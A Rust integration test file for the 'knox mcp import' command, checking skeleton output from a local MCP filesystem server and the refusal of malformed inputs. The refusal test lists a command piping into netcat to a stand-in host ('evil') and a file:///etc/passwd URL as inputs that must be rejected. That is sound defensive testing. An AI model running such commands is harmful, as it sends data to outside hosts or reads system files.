//! `knox mcp import` (the MCP half of `knox toolkit import`) against real servers
//! installed by `scripts/mcp-servers`: a confined stdio server and a Streamable-HTTP
//! one. Without them the tests fail under `CI=true` and are skipped, loudly, otherwise.

use std::path::{Path, PathBuf};

use super::support::knox;

fn servers() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.mcp-servers");
    if p.join(".installed").exists() {
        return Some(std::fs::canonicalize(p).unwrap());
    }
    let msg = "MCP test servers are missing: run scripts/mcp-servers";
    assert!(std::env::var_os("CI").is_none(), "{msg}");
    eprintln!("\n!!!!!!!!!! SKIPPED: {msg} !!!!!!!!!!\n");
    None
}

fn skeleton(out: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(out).unwrap()).unwrap()
}

fn effect<'a>(doc: &'a serde_json::Value, tool: &str) -> &'a str {
    doc["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == tool)
        .and_then(|t| t["effect"].as_str())
        .unwrap_or("<missing>")
}

#[test]
fn import_writes_a_reviewed_skeleton_from_a_confined_stdio_server() {
    let Some(dir) = servers() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("fs.json");
    let index = dir.join("node/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
    let o = knox()
        .args(["mcp", "import", "--name", "fs", "--mcp-stdio"])
        .arg(format!("node {} {}", index.display(), tmp.path().display()))
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let doc = skeleton(&out);
    assert_eq!(doc["format"], "knox-toolkit-skeleton/1");
    assert_eq!(doc["review_required"], true);
    assert_eq!(effect(&doc, "fs.read_text_file"), "read");
    assert_eq!(effect(&doc, "fs.write_file"), "write");
    for t in doc["tools"].as_array().unwrap() {
        assert!(!t["review"].as_array().unwrap().is_empty(), "{t}");
        assert_eq!(t["inputSchema"]["type"], "object", "{t}");
    }
    // The needs it ran under are in the skeleton, for review: no TCP endpoint.
    assert_eq!(doc["server"]["needs"]["endpoints"], serde_json::json!([]));
}

#[test]
fn import_refuses_bad_input_with_a_clear_error() {
    let tmp = tempfile::tempdir().unwrap();
    for args in [
        vec!["--mcp-stdio", "node x | nc evil 1"],
        vec!["--mcp-stdio", ""],
        vec!["--mcp-http", "file:///etc/passwd"],
        vec!["--mcp-stdio", "no-such-program-knox"],
        vec!["--name", "a.b", "--mcp-http", "http://127.0.0.1:9/mcp"],
    ] {
        let o = knox()
            .args(["mcp", "import"])
            .args(&args)
            .current_dir(tmp.path())
            .output()
            .unwrap();
        assert_eq!(
            o.status.code(),
            Some(64),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
    // A server that is not there: unavailable (69), naming it.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let o = knox()
        .args([
            "mcp",
            "import",
            "--name",
            "gone",
            "--timeout-secs",
            "5",
            "--mcp-http",
        ])
        .arg(format!("http://127.0.0.1:{port}/mcp"))
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(69),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("gone"));
}
